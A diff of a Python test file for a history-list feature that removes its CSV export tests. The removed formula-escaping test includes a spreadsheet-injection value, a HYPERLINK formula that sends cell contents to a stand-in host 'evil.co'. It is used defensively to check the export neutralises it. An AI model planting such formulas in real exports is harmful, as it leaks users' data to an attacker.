@@ -1,9 +1,8 @@
-"""History list: filters, role scoping, keyset pages across timestamp ties, streamed CSV."""
+"""History list: filters, role scoping, keyset pages across timestamp ties (the exports:
+test_export.py)."""
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 from datetime import date
 
@@ -136,39 +135,3 @@ def test_filters_normalise_so_equal_filters_hash_alike() -> None:
     assert one.digest() != ExploreFilter(hands=("left",)).digest()
     with pytest.raises(ValueError):
         ExploreFilter(line="elbow")
-
-
-def test_csv_streams_the_whole_filtered_set_in_chunks_and_respects_scope(
-    session: Session, people: dict[str, int]
-) -> None:
-    for i in range(25):
-        add_reading(session, ReadingSpec(people["ana"], created_at=BASE_TIME - days(i % 4)))
-    add_reading(session, ReadingSpec(people["ben"]))
-    chunks = list(
-        history.export_csv(session, viewer(people["ana"]), ExploreFilter(), chunk_rows=10)
-    )
-    assert len(chunks) == 3  # 10 + 10 + 5 rows: streamed, not one string
-    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
-    assert len(rows) == 25 and {row["owner"] for row in rows} == {"you"}
-    assert rows[0]["lines_found"] == "3" and rows[0]["mean_confidence"] == "0.8"
-    everyone = "".join(
-        history.export_csv(session, viewer(people["ada"], Role.ANALYST), ExploreFilter())
-    )
-    assert len(list(csv.DictReader(io.StringIO(everyone)))) == 26
-    assert "@example.com" not in everyone
-
-
-def test_csv_cells_a_person_wrote_never_start_a_spreadsheet_formula(
-    session: Session, people: dict[str, int]
-) -> None:
-    hostile = '=HYPERLINK("http://evil.co/?d="&A1,"open")'
-    for name in (hostile, "+1.jpg", "-x.jpg", "@SUM(1).jpg", "palm.jpg"):
-        add_reading(session, ReadingSpec(people["ana"], filename=name))
-    text = "".join(history.export_csv(session, viewer(people["ana"]), ExploreFilter()))
-    names = {row["filename"] for row in csv.DictReader(io.StringIO(text))}
-    assert names == {"'" + hostile, "'+1.jpg", "'-x.jpg", "'@SUM(1).jpg", "palm.jpg"}
-
-
-def test_csv_of_nothing_is_just_the_header(session: Session, people: dict[str, int]) -> None:
-    text = "".join(history.export_csv(session, viewer(people["ana"]), ExploreFilter()))
-    assert text.strip() == ",".join(history.CSV_COLUMNS)
